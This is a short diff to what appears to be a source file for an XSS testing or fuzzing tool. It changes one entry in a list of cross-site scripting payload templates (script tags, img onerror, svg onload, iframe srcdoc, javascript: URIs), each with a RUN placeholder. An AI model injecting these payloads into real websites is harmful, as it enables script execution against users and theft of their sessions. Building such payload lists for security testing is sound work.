@@ -9,7 +9,7 @@ _KINDS = """
 <script>RUN</script>|"><script>RUN</script>|'><script>RUN</script>|</title><script>RUN</script>
 </textarea><script>RUN</script>|</script><script>RUN</script>|--><script>RUN</script>|<ScRiPt>RUN</sCrIpT>
 <script/x>RUN</script>|</option></select><script>RUN</script>|<img src=x data-p onerror=RUN>
-"><img src=x data-p onerror=RUN>|'><img src=x data-p onerror=RUN>|<img/src=x/data-p/onerror=RUN>
+"><img src=x data-p onerror=RUN>|'><img src=x data-p onerror=RUN>|<img/src="x"/data-p/onerror=RUN>
 <image src=x data-p onerror=RUN>|<svg data-p onload=RUN>|"><svg data-p onload=RUN>|<svg><script>RUN</script></svg>
 <svg><animate data-p onbegin=RUN attributeName=x dur=1s>|<math><mi data-p><img src=x onerror=RUN>
 <body data-p onload=RUN>|<iframe data-p srcdoc="<script>parent.RUN</script>">|<iframe data-p src=javascript:parent.RUN>
